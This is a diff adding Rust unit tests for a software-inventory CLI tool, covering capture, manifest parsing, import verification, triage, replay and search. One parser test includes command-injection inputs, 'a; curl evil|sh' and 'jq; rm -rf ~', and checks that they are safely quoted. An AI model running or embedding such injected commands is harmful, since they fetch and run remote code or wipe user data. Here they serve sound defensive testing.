+            verification_command("Run `jq --version` to check"),
+            Some("jq --version")
+        );
+        assert_eq!(
+            verification_command("Open the app; `` is not a command"),
+            None
+        );
+        assert_eq!(verification_command("Run jq --version"), None);
+    }
+
+    #[test]
+    fn capture_manifest_skips_malformed_items() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().join("vault"));
+        vault.init().expect("init vault");
+        let manifest = temp.path().join("manifest.yaml");
+        std::fs::write(
+            &manifest,
+            r#"- title: jq
+  cmd: brew install jq
+  source: homebrew
+  type: package
+  rationale: JSON parsing
+  tags: [cli]
+- title: missing rationale
+- title: dotfiles
+  rationale: Shell setup
+  verification: Run `ls ~/.zshrc`
+"#,
+        )
+        .expect("write manifest");
+
+        let mut log = Vec::new();
+        let result = capture_manifest(
+            &vault,
+            &VaultConfig::default(),
+            manifest.to_str().expect("utf8 path"),
+            &EntryType::Other,
+            "manual",
+            false,
+            &mut log,
+        );
+        assert_eq!(
+            result.expect_err("one item fails").to_string(),
+            "1 of 3 manifest items failed"
+        );
+        let log = String::from_utf8(log).expect("utf8 log");
+        assert!(log.starts_with("skipped manifest item 2: malformed item"));
+        assert!(log.ends_with("created 2, failed 1\n"));
+
+        let mut entries = vault.list().expect("list entries");
+        entries.sort_by(|a, b| a.title.cmp(&b.title));
+        assert_eq!(entries.len(), 2);
+        assert_eq!(entries[0].title, "dotfiles");
+        assert_eq!(entries[0].entry_type, EntryType::Other);
+        assert_eq!(entries[0].source, "manual");
+        assert_eq!(entries[1].title, "jq");
+        assert_eq!(entries[1].entry_type, EntryType::Package);
+        assert_eq!(entries[1].source, "homebrew");
+        assert_eq!(entries[1].tags, vec![Tag::new("cli").expect("tag")]);
+    }
+
+    #[test]
+    fn capture_prefers_explicit_args_over_the_template() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        let template = sv_core::EntryTemplate {
+            tags: vec!["cli".into()],
+            verification: Some("Run `jq --version`".into()),
+            rationale: Some("Installed {title} for scripts".into()),
+        };
+        let config = VaultConfig {
+            entry_templates: [("homebrew".to_string(), template)].into(),
+            ..VaultConfig::default()
+        };
+        for (title, explicit) in [("jq", false), ("fd", true)] {
+            capture_entry(
+                &vault,
+                &config,
+                Some(title.into()),
+                explicit.then(|| RationaleSource::Text("Fast file search".into())),
+                EntryType::Package,
+                "homebrew".into(),
+                None,
+                if explicit {
+                    vec!["search".into()]
+                } else {
+                    Vec::new()
+                },
+                explicit.then(|| "Run `fd --version`".into()),
+                None,
+                None,
+            )
+            .expect("capture");
+        }
+
+        let mut entries = vault.list().expect("list entries");
+        entries.sort_by(|a, b| a.title.cmp(&b.title));
+        assert_eq!(entries[0].title, "fd");
+        assert_eq!(entries[0].rationale.as_str(), "Fast file search");
+        assert_eq!(entries[0].tags, vec![Tag::new("search").expect("tag")]);
+        assert_eq!(
+            entries[0].verification.as_deref(),
+            Some("Run `fd --version`")
+        );
+        assert_eq!(entries[1].rationale.as_str(), "Installed jq for scripts");
+        assert_eq!(entries[1].tags, vec![Tag::new("cli").expect("tag")]);
+        assert_eq!(
+            entries[1].verification.as_deref(),
+            Some("Run `jq --version`")
+        );
+    }
+
+    #[test]
+    fn capture_maps_tags_through_the_given_tag_aliases() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        let config = VaultConfig {
+            tag_aliases: [("k8s".to_string(), "kubernetes".to_string())].into(),
+            ..VaultConfig::default()
+        };
+        capture_entry(
+            &vault,
+            &config,
+            Some("kubectl".into()),
+            Some(RationaleSource::Text("Manage clusters".into())),
+            EntryType::Package,
+            "homebrew".into(),
+            None,
+            vec!["k8s".into(), "cli".into()],
+            None,
+            None,
+            None,
+        )
+        .expect("capture");
+
+        let entry = &vault.list().expect("list entries")[0];
+        let tags: Vec<_> = entry.tags.iter().map(Tag::as_str).collect();
+        assert_eq!(tags, vec!["kubernetes", "cli"]);
+    }
+
+    #[test]
+    fn edit_removes_tags_through_the_given_tag_aliases() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        let config = VaultConfig {
+            tag_aliases: [("k8s".to_string(), "kubernetes".to_string())].into(),
+            ..VaultConfig::default()
+        };
+        capture_entry(
+            &vault,
+            &config,
+            Some("kubectl".into()),
+            Some(RationaleSource::Text("Manage clusters".into())),
+            EntryType::Package,
+            "homebrew".into(),
+            None,
+            vec!["kubernetes".into(), "cli".into()],
+            None,
+            None,
+            None,
+        )
+        .expect("capture");
+        let entry = vault.list().expect("list entries").remove(0);
+
+        let outcome = edit_entry(
+            &vault,
+            &config,
+            &entry.id.to_string(),
+            None,
+            None,
+            None,
+            Vec::new(),
+            vec!["k8s".into()],
+            None,
+            None,
+            None,
+        )
+        .expect("edit");
+        assert!(matches!(outcome, Outcome::Success));
+
+        let entry = vault.get(entry.id).expect("get entry").expect("entry exists");
+        let tags: Vec<_> = entry.tags.iter().map(Tag::as_str).collect();
+        assert_eq!(tags, vec!["cli"]);
+    }
+
+    #[test]
+    fn import_verify_refuses_corrupted_files() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().join("vault"));
+        vault.init().expect("init vault");
+        for title in ["jq", "ripgrep"] {
+            capture_entry(
+                &vault,
+                &VaultConfig::default(),
+                Some(title.into()),
+                Some(RationaleSource::Text("daily tool".into())),
+                EntryType::Package,
+                "manual".into(),
+                None,
+                Vec::new(),
+                None,
+                None,
+                None,
+            )
+            .expect("capture");
+        }
+        let export_dir = temp.path().join("export");
+        let export_path = export_dir.display().to_string();
+        export_entries(&vault, &export_path, true, false, true).expect("export");
+
+        let matching = FsVault::new(temp.path().join("matching"));
+        matching.init().expect("init vault");
+        let config = VaultConfig::default();
+        import_entries(&matching, &config, &export_path, true, true)
+            .expect("import verified files");
+        assert_eq!(matching.list().expect("list entries").len(), 2);
+        let duplicate = import_entries(&matching, &config, &export_path, false, true);
+        assert_eq!(
+            duplicate.expect_err("ids exist").to_string(),
+            "2 of 2 files failed to import"
+        );
+
+        let jq = std::fs::read_dir(&export_dir)
+            .expect("read export")
+            .map(|item| item.expect("export file").path())
+            .find(|path| {
+                path.extension().is_some_and(|ext| ext == "md")
+                    && path.to_string_lossy().contains("jq")
+            })
+            .expect("jq export");
+        let contents = std::fs::read_to_string(&jq).expect("read jq");
+        std::fs::write(&jq, contents.replace("daily tool", "daily t00l")).expect("corrupt");
+
+        let corrupted = FsVault::new(temp.path().join("corrupted"));
+        corrupted.init().expect("init vault");
+        let result = import_entries(&corrupted, &config, &export_path, true, true);
+        assert_eq!(
+            result.expect_err("corrupted file").to_string(),
+            "1 of 2 files failed to import"
+        );
+        let imported = corrupted.list().expect("list entries");
+        assert_eq!(imported.len(), 1);
+        assert_eq!(imported[0].title, "ripgrep");
+    }
+
+    #[test]
+    fn triage_applies_typed_decisions() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        let changes: Vec<_> = ["jq", "ripgrep", "serde-cli", "fd"]
+            .into_iter()
+            .map(|title| named_change(title, "homebrew", None))
+            .collect();
+        for change in &changes {
+            vault.add_inbox_item(change.clone()).expect("add inbox item");
+        }
+
+        let mut input = std::io::Cursor::new("x\na\n\na\nJSON parsing\ns\ni\nq\n");
+        let mut output = Vec::new();
+        triage_with(&vault, &VaultConfig::default(), &mut input, &mut output).expect("triage");
+        let output = String::from_utf8(output).expect("utf8 output");
+
+        assert!(output.contains("[1/4] jq (homebrew)"));
+        assert!(output.contains("Unknown choice `x`"));
+        assert!(output.contains("invalid rationale"));
+        assert!(output.ends_with("Approved 1, snoozed 1, ignored 1\n"));
+        let entries = vault.list().expect("list entries");
+        assert_eq!(entries.len(), 1);
+        assert_eq!(entries[0].title, "jq");
+        assert_eq!(vault.load_snoozed().expect("load snoozed"), vec![changes[1].clone()]);
+        assert_eq!(vault.load_inbox().expect("load inbox"), vec![changes[3].clone()]);
+    }
+
+    #[test]
+    fn replay_runs_in_detection_order_and_stops_at_a_failure() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().join("vault"));
+        let marker = temp.path().join("installed");
+        let now = Utc::now();
+        let entry = |title: &str, cmd: String, minutes_ago: i64| {
+            Entry::builder(Uuid::new_v4(), title)
+                .entry_type(EntryType::Script)
+                .source("manual")
+                .cmd(cmd)
+                .system(SystemInfo {
+                    os: std::env::consts::OS.into(),
+                    arch: "x86_64".into(),
+                    hostname: None,
+                })
+                .detected_at(now - chrono::Duration::minutes(minutes_ago))
+                .rationale(Rationale::new("rebuild").expect("rationale"))
+                .build()
+                .expect("entry")
+        };
+        vault
+            .create(&entry("second", format!("touch '{}'", marker.display()), 1))
+            .expect("create");
+        vault.create(&entry("first", "exit 3".into(), 2)).expect("create");
+        let foreign_marker = temp.path().join("foreign");
+        let mut foreign = entry(
+            "foreign",
+            format!("touch '{}'", foreign_marker.display()),
+            3,
+        );
+        foreign.system.os = "other-os".into();
+        vault.create(&foreign).expect("create");
+        let filter = EntryFilter::default();
+        let os = Some(std::env::consts::OS);
+
+        replay(&vault, &filter, os, false, false).expect("dry run");
+        assert!(!marker.exists());
+        let err = replay(&vault, &filter, os, true, false).expect_err("first command fails");
+        assert!(err.to_string().contains("1 of 2 commands failed: first"), "{err}");
+        assert!(!marker.exists());
+        replay(&vault, &filter, os, true, true).expect_err("still reports the failure");
+        assert!(marker.exists());
+        assert!(
+            !foreign_marker.exists(),
+            "entries from another OS are skipped"
+        );
+        replay(&vault, &filter, None, true, true).expect_err("--all-os runs every OS");
+        assert!(foreign_marker.exists());
+    }
+
+    #[test]
+    fn manifest_parsers_reconstruct_install_commands() {
+        let brewfile = "tap \"homebrew/cask\"\nbrew \"jq\"\nbrew 'user/tap/foo', args: [\"HEAD\"]\n\
+                        cask \"visual-studio-code\"\nmas \"Xcode\", id: 497799835\n";
+        let parsed = parse_brewfile(brewfile);
+        let rows: Vec<_> = parsed
+            .iter()
+            .map(|dep| (dep.title.as_str(), &dep.entry_type, dep.cmd.as_str()))
+            .collect();
+        assert_eq!(
+            rows,
+            [
+                ("jq", &EntryType::Package, "brew install jq"),
+                ("foo", &EntryType::Package, "brew install user/tap/foo"),
+                ("visual-studio-code", &EntryType::Application, "brew install --cask visual-studio-code"),
+            ]
+        );
+
+        let requirements = "# tools\nrequests >= 2.31 ; python_version > \"3.8\"\n-r base.txt\n\
+                            black[d]==24.1  # formatter\ngit+https://example.com/x.git\n\nrich\n\
+                            ruff==0.4.1 \\\n    --hash=sha256:abc --hash=sha256:def\n\
+                            mypy --hash=sha256:123\n";
+        let cmds: Vec<_> = parse_requirements(requirements)
+            .into_iter()
+            .map(|dep| (dep.title, dep.cmd))
+            .collect();
+        assert_eq!(
+            cmds,
+            [
+                ("requests".to_string(), "pip install 'requests>=2.31'".to_string()),
+                ("black".to_string(), "pip install 'black[d]==24.1'".to_string()),
+                ("rich".to_string(), "pip install rich".to_string()),
+                ("ruff".to_string(), "pip install ruff==0.4.1".to_string()),
+                ("mypy".to_string(), "pip install mypy".to_string()),
+            ]
+        );
+
+        let package = r#"{"name": "app", "dependencies": {"typescript": "^5"}, "devDependencies": {"eslint": "^9"}}"#;
+        let names: Vec<_> = parse_package_json(package)
+            .expect("valid json")
+            .into_iter()
+            .map(|dep| (dep.source, dep.cmd))
+            .collect();
+        assert_eq!(
+            names,
+            [("npm", "npm install -g typescript".to_string()), ("npm", "npm install -g eslint".to_string())]
+        );
+        assert!(parse_package_json("{").is_err());
+
+        let hostile = r#"{"dependencies": {"a; curl evil|sh": "1"}}"#;
+        let cmds: Vec<_> = parse_package_json(hostile)
+            .expect("valid json")
+            .into_iter()
+            .map(|dep| dep.cmd)
+            .collect();
+        assert_eq!(cmds, ["npm install -g 'a; curl evil|sh'"]);
+        let cmds: Vec<_> =
+            parse_brewfile("brew \"jq; rm -rf ~\"\n").into_iter().map(|dep| dep.cmd).collect();
+        assert_eq!(cmds, ["brew install 'jq; rm -rf ~'"]);
+    }
+
+    #[test]
+    fn porcelain_lines_quote_spaces_tabs_and_newlines() {
+        let line = porcelain_line(&[
+            ("id", "42"),
+            ("title", "Visual Studio Code"),
+            ("source", "homebrew"),
+            ("cmd", "brew install --cask visual-studio-code"),
+        ]);
+        assert_eq!(
+            line,
+            "id=42 title='Visual Studio Code' source=homebrew \
+             cmd='brew install --cask visual-studio-code'"
+        );
+
+        let line = porcelain_line(&[("title", "tab\there"), ("cmd", "echo 'hi'")]);
+        assert_eq!(line, "title='tab\there' cmd='echo '\\''hi'\\'''");
+
+        let line = porcelain_line(&[("title", "two\nlines\t'q'")]);
+        assert_eq!(line, r"title=$'two\nlines\t\'q\''");
+        assert!(!line.contains('\n'));
+    }
+
+    #[test]
+    fn show_steps_through_entries_in_detection_order() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        assert!(matches!(
+            show_entry(&vault, None, ShowStep::First, ShowFormat::Plain).expect("empty vault"),
+            Outcome::Empty
+        ));
+        let now = Utc::now();
+        let entry = |id: &str, title: &str, minutes_ago: i64| {
+            Entry::builder(Uuid::parse_str(id).expect("uuid"), title)
+                .entry_type(EntryType::Package)
+                .source("homebrew")
+                .cmd(format!("brew install {title}"))
+                .system(SystemInfo {
+                    os: "macos".into(),
+                    arch: "arm64".into(),
+                    hostname: None,
+                })
+                .detected_at(now - chrono::Duration::minutes(minutes_ago))
+                .rationale(Rationale::new("daily tool").expect("rationale"))
+                .build()
+                .expect("entry")
+        };
+        // `fd` and `bat` share a detection time, so the lower id comes first.
+        vault.create(&entry("00000000-0000-4000-8000-000000000009", "fd", 1)).expect("create");
+        vault.create(&entry("00000000-0000-4000-8000-000000000001", "bat", 1)).expect("create");
+        vault.create(&entry("00000000-0000-4000-8000-000000000005", "jq", 5)).expect("create");
+        let entries = vault.list().expect("list entries");
+        let titles: Vec<_> = entries.iter().map(|entry| entry.title.as_str()).collect();
+        assert_eq!(titles, ["jq", "bat", "fd"]);
+
+        let title = |position, step| step_entry(&entries, position, step).map(|e| e.title.as_str());
+        assert_eq!(title(None, ShowStep::First), Some("jq"));
+        assert_eq!(title(None, ShowStep::Last), Some("fd"));
+        assert_eq!(title(Some(0), ShowStep::Next), Some("bat"));
+        assert_eq!(title(Some(2), ShowStep::Prev), Some("bat"));
+        assert_eq!(title(Some(2), ShowStep::Next), None);
+        assert_eq!(title(Some(0), ShowStep::Prev), None);
+
+        let last = entries[2].id.to_string();
+        let show = |id: &str, step| show_entry(&vault, Some(id), step, ShowFormat::Json);
+        assert!(matches!(show(&last, ShowStep::Prev).expect("prev"), Outcome::Success));
+        assert!(matches!(show(&last, ShowStep::Next).expect("past the end"), Outcome::Empty));
+        let missing = Uuid::new_v4().to_string();
+        assert!(matches!(show(&missing, ShowStep::Next).expect("missing"), Outcome::NotFound));
+    }
+
+    #[test]
+    fn weak_rationale_filter_finds_short_and_reused_rationales() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        let rationales = [
+            ("jq", "Parses JSON responses in API debugging scripts"),
+            ("fd", "cli"),
+            ("bat", "Needed for work"),
+            ("rg", "needed for work"),
+            ("fzf", "Needed  for work"),
+            ("eza", "Readable directory listings with git status"),
+        ];
+        for (title, rationale) in rationales {
+            capture_entry(
+                &vault,
+                &VaultConfig::default(),
+                Some(title.into()),
+                Some(RationaleSource::Text(rationale.into())),
+                EntryType::Package,
+                "manual".into(),
+                None,
+                Vec::new(),
+                None,
+                None,
+                None,
+            )
+            .expect("capture");
+        }
+
+        let weak = EntryFilter {
+            weak_rationale: true,
+            ..EntryFilter::default()
+        };
+        let mut titles: Vec<_> = filtered_entries(&vault, &weak)
+            .expect("weak entries")
+            .into_iter()
+            .map(|entry| entry.title)
+            .collect();
+        titles.sort();
+        assert_eq!(titles, ["bat", "fd", "fzf", "rg"]);
+        let config = VaultConfig::default();
+        assert_eq!(
+            RationaleSource::Text("Needed for work".into()).quality_warning(3, &config),
+            Some(sv_utils::RationaleWarning::Reused { count: 3 })
+        );
+        assert_eq!(
+            RationaleSource::Template("cli".into()).quality_warning(5, &config),
+            None
+        );
+        let quiet = VaultConfig {
+            rationale_quality_warnings: false,
+            ..VaultConfig::default()
+        };
+        assert_eq!(
+            RationaleSource::Text("cli".into()).quality_warning(3, &quiet),
+            None
+        );
+    }
+
+    #[test]
+    fn search_ranks_best_matches_first_and_honors_limit() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        for (title, tag, rationale) in [
+            ("fx", "cli", "a friendlier jq for exploring JSON"),
+            ("yq", "jq-like", "YAML processing"),
+            ("gojq", "cli", "pure Go port"),
+            ("jq", "cli", "parse API responses"),
+            ("ripgrep", "cli", "fast code search"),
+        ] {
+            capture_entry(
+                &vault,
+                &VaultConfig::default(),
+                Some(title.into()),
+                Some(RationaleSource::Text(rationale.into())),
+                EntryType::Package,
+                "homebrew".into(),
+                None,
+                vec![tag.into()],
+                None,
+                None,
+                None,
+            )
+            .expect("capture");
+        }
+
+        let titles = |limit| -> Vec<String> {
+            ranked_matches(&vault, "JQ", limit)
+                .expect("search")
+                .into_iter()
+                .map(|(entry, _)| entry.title)
+                .collect()
+        };
+        assert_eq!(titles(None), ["jq", "gojq", "yq", "fx"]);
+        assert_eq!(titles(Some(2)), ["jq", "gojq"]);
+        assert!(ranked_matches(&vault, "missing", None).expect("search").is_empty());
+    }
+
+    #[test]
+    fn plain_show_omits_frontmatter() {
+        let mut entry = Entry::builder(Uuid::new_v4(), "jq")
+            .entry_type(EntryType::Package)
+            .source("homebrew")
+            .cmd("brew install jq")
+            .system(SystemInfo {
+                os: "macos".into(),
+                arch: "arm64".into(),
+                hostname: None,
+            })
+            .tags(parse_tags(vec!["cli".into(), "json".into()], &Default::default()).expect("tags"))
+            .rationale(Rationale::new("Parse API responses\n\nand logs").expect("rationale"))
+            .build()
+            .expect("entry");
+        entry.uninstall_cmd = Some("brew uninstall jq".into());
+
+        assert_eq!(
+            render_entry_plain(&entry),
+            "jq\nType:    package\nSource:  homebrew\nCommand: brew install jq\n\
+             Tags:    cli, json\nRemove:  brew uninstall jq\n\n\
+             Rationale:\n  Parse API responses\n\n  and logs"
+        );
+    }
+
+    #[test]
+    fn list_recent_orders_by_last_access() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        for title in ["jq", "ripgrep", "fd"] {
+            capture_entry(
+                &vault,
+                &VaultConfig::default(),
+                Some(title.into()),
+                Some(RationaleSource::Text("daily tool".into())),
+                EntryType::Package,
+                "manual".into(),
+                None,
+                Vec::new(),
+                None,
+                None,
+                None,
+            )
+            .expect("capture");
+        }
+        let id_of = |title: &str| {
+            vault
+                .list()
+                .expect("list entries")
+                .into_iter()
+                .find(|entry| entry.title == title)
+                .expect("entry")
+                .id
+        };
+        let show = |title: &str| {
+            let id = id_of(title).to_string();
+            show_entry(&vault, Some(&id), ShowStep::At, ShowFormat::Plain)
+        };
+        show("fd").expect("show fd");
+        show("jq").expect("show jq");
+
+        let recent = EntryFilter {
+            recent: true,
+            ..EntryFilter::default()
+        };
+        let titles: Vec<_> = filtered_entries(&vault, &recent)
+            .expect("recent entries")
+            .into_iter()
+            .map(|entry| entry.title)
+            .collect();
+        assert_eq!(titles, ["jq", "fd", "ripgrep"]);
+    }
+
+    #[test]
+    fn status_counts_each_queue() {
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        assert_eq!(
+            vault_counts(&vault).expect("counts"),
+            serde_json::json!({ "inbox": 0, "snoozed": 0, "library": 0 })
+        );
+
+        for title in ["jq", "ripgrep", "fd"] {
+            vault.add_inbox_item(named_change(title, "homebrew", None)).expect("add inbox item");
+        }
+        let snoozed = vault.load_inbox().expect("inbox")[2].id;
+        vault.snooze_inbox_item(snoozed).expect("snooze");
+        capture_entry(
+            &vault,
+            &VaultConfig::default(),
+            Some("bat".into()),
+            Some(RationaleSource::Text("daily tool".into())),
+            EntryType::Package,
+            "homebrew".into(),
+            None,
+            Vec::new(),
+            None,
+            None,
+            None,
+        )
+        .expect("capture");
+
+        assert_eq!(
+            vault_counts(&vault).expect("counts"),
+            serde_json::json!({ "inbox": 2, "snoozed": 1, "library": 1 })
+        );
+        assert_eq!(count_line(2, false), "2");
+        assert_eq!(count_line(2, true), r#"{"count":2}"#);
+    }
+
+    #[test]
+    fn quick_command_keeps_argument_quoting() {
+        let args = |args: &[&str]| args.iter().map(|arg| arg.to_string()).collect::<Vec<_>>();
+        assert_eq!(quick_command(&args(&["brew", "install", "jq"])), "brew install jq");
+        assert_eq!(
+            quick_command(&args(&["brew", "install", "foo bar"])),
+            "brew install 'foo bar'"
+        );
+        assert_eq!(quick_command(&args(&["brew install jq"])), "brew install jq");
+    }
+
+    #[test]
+    fn classify_command_infers_type_and_source() {
+        let classify = classify_command;
+        assert_eq!(
+            classify("brew install jq"),
+            ("jq".into(), EntryType::Package, "homebrew".into())
+        );
+        assert_eq!(
+            classify("brew install --cask visual-studio-code"),
+            ("visual-studio-code".into(), EntryType::Application, "homebrew".into())
+        );
+        assert_eq!(
+            classify("code --install-extension rust-lang.rust-analyzer"),
+            ("rust-lang.rust-analyzer".into(), EntryType::Application, "vscode".into())
+        );
+        assert_eq!(
+            classify("cargo install --locked ripgrep"),
+            ("ripgrep".into(), EntryType::Package, "cargo".into())
+        );
+        assert_eq!(
+            classify("~/.config/starship.toml"),
+            ("~/.config/starship.toml".into(), EntryType::Config, "dotfiles".into())
+        );
+        assert_eq!(
+            classify("make install PREFIX=/usr/local"),
+            ("make".into(), EntryType::Other, "manual".into())
+        );
+        assert_eq!(
+            classify("brew install "),
+            ("brew".into(), EntryType::Other, "manual".into())
+        );
+        assert_eq!(
+            classify("docker pull postgres:16"),
+            ("postgres:16".into(), EntryType::Application, "docker".into())
+        );
+        assert_eq!(
+            classify("cargo install --version 14.1.0 ripgrep"),
+            ("ripgrep".into(), EntryType::Package, "cargo".into())
+        );
+        assert_eq!(
+            classify("pip install -r requirements.txt"),
+            ("pip".into(), EntryType::Other, "manual".into())
+        );
+        assert_eq!(
+            classify("brew install jq fd"),
+            ("brew".into(), EntryType::Other, "manual".into())
+        );
+
+        let temp = tempfile::TempDir::new().expect("temp dir");
+        let vault = FsVault::new(temp.path().to_path_buf());
+        vault.init().expect("init vault");
+        quick_capture(
+            &vault,
+            &VaultConfig::default(),
+            "npm install -g typescript",
+            Some("tsc".into()),
+            None,
+            Vec::new(),
+        )
+        .expect("quick capture");
+        let entry = &vault.list().expect("list")[0];
+        assert_eq!((entry.title.as_str(), entry.source.as_str()), ("typescript", "npm"));
+        assert_eq!(entry.uninstall_cmd.as_deref(), Some("npm uninstall -g typescript"));
     }
 }